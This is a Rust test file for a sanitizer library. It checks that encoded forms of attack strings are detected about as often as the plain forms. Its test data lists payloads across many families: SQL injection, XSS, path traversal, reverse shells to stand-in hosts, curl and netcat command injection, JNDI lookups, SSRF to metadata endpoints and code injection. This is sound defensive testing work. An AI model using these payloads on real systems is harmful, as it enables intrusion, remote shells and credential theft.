//! What is found plain is found encoded: for each family, the share of attacks that is found under each encoding, printed as
//! a table and held to that of the same attacks as they are. What is shorter than eight characters when it is encoded as a
//! whole is not decoded, and stands for itself.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may panic")]

use std::collections::BTreeMap;

use portcullis_sanitize::{Scope, inspect_value};

mod encode;

use encode::encodings;

/// By how many percent an encoding may hide attacks.
const POINTS: f64 = 3.0;

#[rustfmt::skip]
const ATTACKS: &[(&str, &[&str])] = &[
    ("sql-injection", &[
        "x' or 'a'='a", "1 or 1=1", "1 union select name,pass from members--", "1; drop table orders",
        "1' and sleep(5)-- -", "-1' union all select null,version()#", "admin'--", "1) or (2=2",
        "1 and extractvalue(1,concat(0x7e,version()))", "1; waitfor delay '0:0:9'--", "x'||(select 1 from dual)||'",
        "1 and (select count(*) from staff) > 0", "1 order by 4--", "x' having 1=1--", "1 into outfile '/tmp/x'",
        "1;exec xp_cmdshell 'dir'", "1 rlike (select case when (1=1) then 1 else 0x28 end)", "\" or \"\"=\"",
    ]),
    ("xss", &[
        "<script>alert(1)</script>", "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "\"><script>go()</script>", "' onfocus='alert(1)' autofocus='", "javascript:alert(document.cookie)",
        "';alert(1)//", "{{constructor.constructor('alert(1)')()}}", "<iframe srcdoc='<script>go()</script>'>",
        "<body onload=go()>", "<math><a xlink:href=javascript:go(1)>x", "<details open ontoggle=go()>",
    ]),
    ("path-traversal", &[
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/hosts",
        "/proc/self/environ", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
        "/var/www/../../etc/shadow", "C:\\boot.ini",
    ]),
    ("command-injection", &[
        "; cat /etc/passwd", "| whoami", "$(curl http://x.test/a)", "`whoami`", "&& ping -c 1 10.0.0.1",
        "; bash -i >& /dev/tcp/10.0.0.1/80 0>&1", ";cat${IFS}/etc/passwd", "| nc -e /bin/sh x.test 80",
        "() { :; }; /bin/bash -c id", "& powershell -enc QQBBAEEA", "/bin/sh -c id", ";$'cat' /etc/hosts",
    ]),
    ("jndi-lookup", &[
        "${jndi:ldap://x.test/a}", "${${lower:j}ndi:rmi://x.test}", "${${::-j}${::-n}di:dns://x.test}", "${env:AWS_SECRET_KEY}",
    ]),
    ("code-injection", &[
        "<?php system($_GET['c']); ?>", "phpinfo();", "eval($_POST['a'])", "__import__('os').system('id')",
        "require('child_process').exec('id')", "java.lang.Runtime.getRuntime().exec('id')", "('sys'.'tem')('id')",
        "File.read('/etc/hosts')", "${@phpinfo()}",
    ]),
    ("template-injection", &[
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{3*4}", "{{''.__class__.__mro__}}",
        "${T(java.lang.Runtime).getRuntime()}", "{% debug %}", "<#assign a='x'?new()>", "#set($a=7*7)$a",
    ]),
    ("ssrf", &[
        "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/admin", "http://2130706433/", "gopher://10.0.0.1:6379/_x",
        "http://[::ffff:7f00:1]/", "http://0177.0.0.1/",
    ]),
    ("nosql-injection", &["{\"$ne\": \"\"}", "'; return true; var x='", "$where: '1 == 1'", "';db.users.drop();'"]),
    ("ldap-injection", &["*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(password=*)", "*)(objectClass=*"]),
    ("xpath-injection", &["' or count(//user)>1 or 'a'='b", "x'] | //user/password | a['", "' and name(/*)='x"]),
    ("deserialization", &["O:8:\"stdClass\":0:{}", "{\"a\":\"_$$ND_FUNC$$_function(){}\"}", "cos\nsystem\n(S'id'\ntR."]),
    ("xml-entity", &[
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]><a>&b;</a>", "<!DOCTYPE a SYSTEM \"http://x.test/a.dtd\"><a/>",
    ]),
];

/// Letters that change their case, where case does not matter.
fn mixed(value: &str) -> String {
    let letter = |(index, letter): (usize, char)| {
        if index % 2 == 0 { letter.to_ascii_uppercase() } else { letter.to_ascii_lowercase() }
    };
    value.chars().enumerate().map(letter).collect()
}

fn is_found(value: &[u8]) -> bool {
    inspect_value(value, Scope::EVERY).is_some_and(|finding| finding.confidence >= 70)
}

#[test]
fn encodings_hide_nothing() {
    // By family and encoding: how many there are, and how many are found.
    let mut table: BTreeMap<(&str, &str), (u32, u32)> = BTreeMap::new();
    let mut missed = Vec::new();
    for (family, attacks) in ATTACKS {
        for attack in *attacks {
            let mut forms = encodings(attack.as_bytes());
            if matches!(*family, "sql-injection" | "xss") {
                forms.push(("mixed case", mixed(attack).into_bytes()));
            }
            if *family == "sql-injection" {
                forms.push(("comments", attack.replace(' ', "/**/").into_bytes()));
            }
            for (encoding, value) in forms {
                let found = is_found(&value);
                let entry = table.entry((family, encoding)).or_default();
                *entry = (entry.0 + 1, entry.1 + u32::from(found));
                if !found {
                    missed.push(format!("{family} as {encoding}: {attack}"));
                }
            }
        }
    }
    let rate = |(all, found): (u32, u32)| 100.0 * f64::from(found) / f64::from(all);
    println!("{:<20} {:<26} {:>5} {:>7}", "family", "encoding", "sent", "found");
    for ((family, encoding), counts) in &table {
        println!("{family:<20} {encoding:<26} {:>5} {:>6.1} %", counts.0, rate(*counts));
    }
    for ((family, encoding), counts) in &table {
        let plain = table[&(*family, "as it is")];
        assert_eq!(plain.0, plain.1, "{family}: {missed:#?}");
        assert!(rate(*counts) + POINTS >= rate(plain), "{family} as {encoding}: {missed:#?}");
    }
    assert!(table.values().map(|counts| counts.0).max().unwrap() >= 18);
}
